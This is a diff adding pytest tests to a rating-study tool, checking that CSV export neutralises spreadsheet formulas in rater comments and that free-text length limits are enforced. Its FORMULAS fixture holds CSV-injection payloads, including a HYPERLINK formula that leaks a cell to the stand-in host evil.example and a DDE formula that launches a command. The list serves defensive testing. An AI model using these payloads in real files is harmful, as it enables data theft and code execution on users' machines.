@@ -15,7 +15,9 @@ from annotations import (
     export_csv,
     export_jsonl,
     import_responses,
+    load_study,
     open_rater_session,
+    record_item_audit,
     preferences_frame,
     ratings_frame,
     response_rows,
@@ -149,3 +151,107 @@ def test_cli_export_import_status(store: Store, tmp_path: Path, fmt: str, capsys
     bad.write_text("study_id,kind,unit_id,rater,rating\ns1,progress_rating,U-NOPE,ann,3\n")
     assert main(["study", "import", "--db", str(store.path), str(bad)]) == 1
     assert "line 2: no unit 'U-NOPE'" in capsys.readouterr().out
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
+            "＝1+1", '=1+2";=1+2', "'=already quoted"]
+"""Rater comments that a spreadsheet would run (whitespace-led variants: tests/test_csv_safe.py; notes are stored stripped)."""
+
+
+def noted_study(store: Store, notes: list[str]) -> tuple[str, list[str]]:
+    """A study where rater ann's first rated units carry `notes` as comments; returns (study id, unit ids)."""
+    created = small_study_for_notes(store)
+    ann = open_rater_session(store, created.tokens["ann"])
+    units = [i.target for i in ann.queue() if i.kind == "progress_rating"][:len(notes)]
+    for unit, note in zip(units, notes):
+        ann.submit_rating(unit, 3, note=note)
+    return created.study_id, units
+
+
+def small_study_for_notes(store: Store):
+    small_project(store, tasks=2, per_stratum=2)
+    return create_study(store, DesignParams(tasks=None, per_task=6, raters_per_unit=1, seed=4, raters=("ann",),
+                                            pairs_per_task=0), study_id="s1")
+
+
+def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(store: Store, tmp_path: Path) -> None:
+    sid, _ = noted_study(store, FORMULAS)
+    table = export_csv(store, sid)  # the Study admin page's download and `study export --format csv`
+    cells = [c for row in csv.reader(io.StringIO(table)) for c in row]
+    assert sorted(c for c in cells if c[1:] in FORMULAS) == sorted("'" + n for n in FORMULAS)
+    assert "'=1+2\"\";=1+2" in table  # the field is quoted: its quote and separator cannot start a cell
+    assert not any(c[:1] in "=+-@\t\r＝" for c in cells if c), "a live formula cell"
+    jsonl_notes = [json.loads(line)["note"] for line in export_jsonl(store, sid).splitlines()[1:]]
+    assert sorted(n for n in jsonl_notes if n) == sorted(FORMULAS)  # JSONL stays exact
+    other = project_like(store, tmp_path / "other.db")
+    import_responses(other, export_jsonl(store, sid).splitlines()[0] + "\n")
+    assert import_responses(other, table).ok
+    assert sorted(r["note"] for r in other.annotations(study_id=sid) if r["note"]) == sorted(FORMULAS)
+
+
+def test_free_text_up_to_the_limit_survives_csv_and_beyond_it_is_refused(store: Store, tmp_path: Path,
+                                                                       capsys: pytest.CaptureFixture[str]) -> None:
+    from annotations.limits import FREE_TEXT_MAX_CHARS
+    from gcpc_core.cli import main
+
+    long = "=" + "x" * (FREE_TEXT_MAX_CHARS - 1)  # over Python's default CSV field limit (131,072), and a formula
+    assert len(long) > 131_072
+    sid, units = noted_study(store, [long, "short"])
+    ann = open_rater_session(store, _token(store, sid, "ann"))
+    with pytest.raises(ValueError, match="over the free-text limit"):
+        ann.submit_rating(units[1], 2, note=long + "y")
+    with pytest.raises(ValueError, match="over the free-text limit"):  # the review app's audit notes: same limit
+        record_item_audit(store, trajectory_id=load_study(store, sid).units[units[0]]["trajectory_id"], item_id="C1",
+                          judge="probe", reviewer="ann", agree=True, note=long + "y")
+    out = tmp_path / "study.csv"
+    assert main(["study", "export", "--db", str(store.path), "--format", "csv", "--out", str(out)]) == 0
+    assert "'=" + "x" * 100 in out.read_text()  # neutralised on the way out
+    other = project_like(store, tmp_path / "other.db")
+    import_responses(other, export_jsonl(store, sid).splitlines()[0] + "\n")
+    capsys.readouterr()
+    assert main(["study", "import", "--db", str(other.path), str(out)]) == 0
+    assert any(r["note"] == long for r in other.annotations(study_id=sid))
+    # one character over: a clear rejection naming the file and the line, the other rows imported
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    rows[0]["note"], rows[0]["client_token"] = long + "yy", "fresh-token"
+    too_long = tmp_path / "too-long.csv"
+    with too_long.open("w", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    third = project_like(store, tmp_path / "third.db")
+    import_responses(third, export_jsonl(store, sid).splitlines()[0] + "\n")
+    assert main(["study", "import", "--db", str(third.path), str(too_long)]) == 1
+    printed = capsys.readouterr().out
+    assert f"{too_long}: line 2: field 'note' has {FREE_TEXT_MAX_CHARS + 2:,} characters, over the free-text limit" \
+        in printed
+    assert f"{len(rows) - 1} added" in printed
+    jsonl = json.dumps({"study_id": sid, "kind": "progress_rating", "unit_id": units[1], "rater": "ann", "rating": 4,
+                        "note": long + "y"})
+    assert "over the free-text limit" in import_responses(third, jsonl).rejected[0][1]
+    not_text = jsonl.replace(json.dumps(long + "y"), "5")
+    assert "note must be text, not int" in import_responses(third, not_text).rejected[0][1]
+
+
+def test_export_refuses_a_stored_note_over_the_limit_and_writes_nothing(store: Store, tmp_path: Path,
+                                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    from annotations.limits import FREE_TEXT_MAX_CHARS
+    from gcpc_core.cli import main
+
+    sid, units = noted_study(store, ["fine"])
+    unit = load_study(store, sid).units[units[0]]
+    row, _ = store.add_annotation(kind="progress_rating", rater="ann", value={"rating": 2}, study_id=sid,
+                                  task=unit["task"], trajectory_id=unit["trajectory_id"], unit_id=units[0],
+                                  note="n" * (FREE_TEXT_MAX_CHARS + 1))  # written past the input checks
+    out = tmp_path / "study.csv"
+    for fmt in ("csv", "jsonl"):
+        assert main(["study", "export", "--db", str(store.path), "--format", fmt, "--out", str(out)]) == 2
+        err = capsys.readouterr().err
+        assert f"annotation {row['id']} of rater ann: note has {FREE_TEXT_MAX_CHARS + 1:,} characters" in err
+        assert not out.exists()
+
+
+def _token(store: Store, sid: str, rater: str) -> str:
+    from annotations import issue_link
+
+    return issue_link(store, sid, rater)
